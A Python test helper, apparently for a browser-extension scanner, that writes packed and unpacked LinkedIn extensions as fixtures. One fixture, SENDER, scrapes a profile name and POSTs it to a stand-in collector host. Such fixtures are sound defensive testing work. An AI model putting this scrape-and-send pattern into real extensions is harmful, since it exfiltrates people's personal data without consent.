"""Small extensions for the tests of the command line, written to a folder of the test."""

import json
import zipfile
from pathlib import Path

SENDER = """
const name = document.querySelector(".pv-text-details__left-panel h1").innerText;
fetch("https://api.collector.example/v1/people", { method: "POST", body: JSON.stringify({ name }) });
"""
KEEPER = """
const name = document.querySelector(".pv-text-details__left-panel h1").innerText;
chrome.storage.local.set({ name });
"""
TIDY = "document.body.classList.add('dark');"


def unpacked(folder: Path, code: str = TIDY, name: str = "Tidy", version: str = "1.0", **manifest: object) -> Path:
    """Write an unpacked extension whose content script on LinkedIn is `code`."""
    folder.mkdir(parents=True, exist_ok=True)
    whole = {
        "manifest_version": 3,
        "name": name,
        "version": version,
        "content_scripts": [{"matches": ["https://www.linkedin.com/*"], "js": ["content.js"]}],
        **manifest,
    }
    (folder / "manifest.json").write_text(json.dumps(whole), encoding="utf-8")
    (folder / "content.js").write_text(code, encoding="utf-8")
    return folder


def packed(path: Path, code: str = TIDY, name: str = "Tidy") -> Path:
    """Write the same as a ZIP archive."""
    source = unpacked(path.with_suffix(".d"), code, name)
    with zipfile.ZipFile(path, "w") as archive:
        for file in sorted(source.iterdir()):
            archive.write(file, file.name)
            file.unlink()
    source.rmdir()
    return path


def broken(path: Path) -> Path:
    """Write a file that is no package."""
    path.write_bytes(b"not a package at all")
    return path
